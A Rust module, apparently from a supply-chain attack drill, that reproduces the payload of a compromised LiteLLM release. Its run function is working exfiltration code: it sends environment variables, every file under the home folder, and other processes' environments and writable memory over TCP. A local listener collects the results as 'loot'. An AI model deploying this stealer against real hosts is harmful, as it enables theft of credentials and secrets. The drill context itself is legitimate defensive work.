//! What a malicious package does on the application's host, and the look-alike domain it posts to. Modelled on the payload of
//! LiteLLM 1.82.7 and 1.82.8 (March 2026): environment, files under the home folder, here also the memory of the processes that
//! it may read; all of it to `models.litellm.cloud` there, to a listener of the drill here.
use anyhow::{Context as _, ensure};
use std::fs::{self, File};
use std::io::{Read as _, Seek as _, SeekFrom, Write as _};
use std::net::{TcpListener, TcpStream};
use std::path::{Path, PathBuf};
use std::sync::mpsc;
use std::time::Duration;

/// Read of one file, and of one mapping at once.
const PIECE: usize = 1 << 20;
/// No mapping that is longer holds anything but reserved space.
const MAPPING_MAX: u64 = 512 << 20;

/// Takes what it can, and posts it; how many bytes.
pub fn run(address: &str, home: &Path, pids: &[u32]) -> anyhow::Result<u64> {
    let mut out = Counted { stream: TcpStream::connect(address)?, bytes: 0 };
    for (name, value) in std::env::vars_os() {
        out.send(format!("{}={}\n", name.to_string_lossy(), value.to_string_lossy()).as_bytes())?;
    }
    folder(home, &mut out)?;
    for pid in pids {
        // What a user may not read of another process it goes without.
        if let Ok(environment) = fs::read(format!("/proc/{pid}/environ")) {
            out.send(&environment)?;
        }
        memory(*pid, &mut out)?;
    }
    Ok(out.bytes)
}

struct Counted {
    stream: TcpStream,
    bytes: u64,
}

impl Counted {
    fn send(&mut self, bytes: &[u8]) -> anyhow::Result<()> {
        self.stream.write_all(bytes)?;
        self.bytes += bytes.len() as u64;
        Ok(())
    }
}

fn folder(path: &Path, out: &mut Counted) -> anyhow::Result<()> {
    for entry in fs::read_dir(path)?.flatten() {
        let kind = entry.file_type()?;
        if kind.is_dir() {
            folder(&entry.path(), out)?;
        } else if kind.is_file() {
            out.send(entry.path().display().to_string().as_bytes())?;
            out.send(b"\n")?;
            out.send(&fs::read(entry.path())?)?;
        }
    }
    Ok(())
}

fn memory(pid: u32, out: &mut Counted) -> anyhow::Result<()> {
    let maps = fs::read_to_string(format!("/proc/{pid}/maps")).unwrap_or_default();
    let Ok(mut memory) = File::open(format!("/proc/{pid}/mem")) else { return Ok(()) };
    let mut piece = vec![0; PIECE];
    // Writable private memory: heap, stacks, globals. The rest is files that everybody has.
    for line in maps.lines().filter(|l| l.contains(" rw-p ")) {
        let Some((from, to)) = line.split(' ').next().and_then(|range| range.split_once('-')) else {
            continue;
        };
        let (from, to) = (u64::from_str_radix(from, 16)?, u64::from_str_radix(to, 16)?);
        if to - from > MAPPING_MAX || memory.seek(SeekFrom::Start(from)).is_err() {
            continue;
        }
        let mut left = usize::try_from(to - from)?;
        while left > 0 {
            let Some(part) = piece.get_mut(..left.min(PIECE)) else { break };
            // Gone meanwhile, or never there.
            let Ok(count @ 1..) = memory.read(part) else { break };
            let read = part.get(..count).unwrap_or_default();
            if read.iter().any(|b| *b != 0) {
                out.send(read)?;
            }
            left -= count;
        }
    }
    Ok(())
}

/// What arrived.
pub(super) struct Loot {
    pub(super) file: PathBuf,
    pub(super) bytes: u64,
}

/// The look-alike domain's listener; it ends with the drill.
pub(super) struct Lookalike {
    pub(super) address: String,
    arrived: mpsc::Receiver<anyhow::Result<Loot>>,
}

impl Lookalike {
    pub(super) fn start(folder: &Path) -> anyhow::Result<Self> {
        fs::create_dir_all(folder)?;
        let listener = TcpListener::bind("127.0.0.1:0")?;
        let address = listener.local_addr()?.to_string();
        let (tell, arrived) = mpsc::channel();
        let folder = folder.to_owned();
        std::thread::spawn(move || {
            for (number, mut stream) in listener.incoming().flatten().enumerate() {
                let file = folder.join(format!("loot-{number}"));
                let took = File::create(&file).and_then(|mut f| std::io::copy(&mut stream, &mut f));
                let loot = took.map(|bytes| Loot { file, bytes }).context("the loot");
                if tell.send(loot).is_err() {
                    return;
                }
            }
        });
        Ok(Self { address, arrived })
    }

    /// What came last; all of what was sent.
    pub(super) fn received(&self, sent: u64) -> anyhow::Result<Loot> {
        let loot = self.arrived.recv_timeout(Duration::from_secs(30)).context("nothing arrived")??;
        ensure!(loot.bytes == sent, "{} of {sent} bytes arrived", loot.bytes);
        Ok(loot)
    }
}
